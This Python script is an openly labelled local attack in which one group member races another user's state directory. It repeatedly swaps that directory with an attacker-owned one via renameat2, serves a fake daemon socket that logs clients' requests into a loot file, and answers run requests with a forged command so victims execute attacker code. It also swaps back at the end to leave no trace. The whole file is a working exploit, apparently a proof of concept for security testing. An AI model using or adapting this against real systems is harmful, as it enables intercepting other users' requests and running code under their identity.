"""A group member's attack on another user's state directory.

usage: exchange-directories.py PARENT NAME HOST RATE LOOT

Exchanges PARENT/NAME with a directory of the attacker, which contains a fake daemon's socket, RATE times a second, until
standard input ends. The fake daemon writes each request to LOOT/requests and makes clients that request a run start
LOOT/forged. LOOT/exchanges has a byte for each exchange. An odd number of exchanges is followed by one more at the end,
so that the next attack finds the directory as this one did.
"""

import ctypes
import json
import os
import select
import socketserver
import sys
import threading
import time

parent, name, host, rate, loot = sys.argv[1:]
libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
RENAME_EXCHANGE = 2


def exchange(one, other):
    return libc.renameat2(AT_FDCWD, one.encode(), AT_FDCWD, other.encode(), RENAME_EXCHANGE) == 0


ANSWERS = {
    "GET /v1/health": {"version": "0.1.0", "ledger": "ok", "pendingRemovals": 0},
    "GET /v1/compute-envs": {"computeEnvironments": []},
    "POST /v1/runs": {
        "plan": {"workspace": "a/b", "computeEnvironment": "c", "secrets": [], "destination": None, "note": None},
        "run": {"id": "forged"},
        "start": {
            "directory": loot,
            "command": os.path.join(loot, "forged"),
            "arguments": [],
            "environment": {},
        },
    },
}


class Daemon(socketserver.StreamRequestHandler):
    def handle(self):
        line = self.rfile.readline().decode("latin1")
        length = 0
        while True:
            header = self.rfile.readline().decode("latin1").strip().lower()
            if header == "":
                break
            if header.startswith("content-length:"):
                length = int(header.split(":")[1])
        body = self.rfile.read(length)
        with open(os.path.join(loot, "requests"), "ab") as file:
            file.write(line.encode("latin1") + body + b"\n")
        answer = json.dumps(ANSWERS.get(" ".join(line.split(" ")[:2]), {})).encode()
        self.wfile.write(b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Type: application/json\r\n")
        self.wfile.write(b"Content-Length: %d\r\n\r\n" % len(answer) + answer)


class Server(socketserver.ThreadingUnixStreamServer):
    daemon_threads = True


os.umask(0)
own = os.path.join(parent, f"{name}.of-{os.getpid()}")


def prepare():
    """Creates the attacker's directory next to the other one. Returns whether that was possible."""
    try:
        os.makedirs(os.path.join(own, host))
        os.chdir(os.path.join(own, host))
        server = Server("daemon.sock", Daemon)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        return True
    except OSError:
        return False


ready, count = prepare(), 0
tally = open(os.path.join(loot, "exchanges"), "ab", buffering=0)
print("ready", flush=True)
while not select.select([sys.stdin], [], [], 0)[0]:
    if not ready:
        ready = prepare()
    elif exchange(own, os.path.join(parent, name)):
        count += 1
        tally.write(b".")
    time.sleep(1 / float(rate))
if count % 2 == 1:
    exchange(own, os.path.join(parent, name))
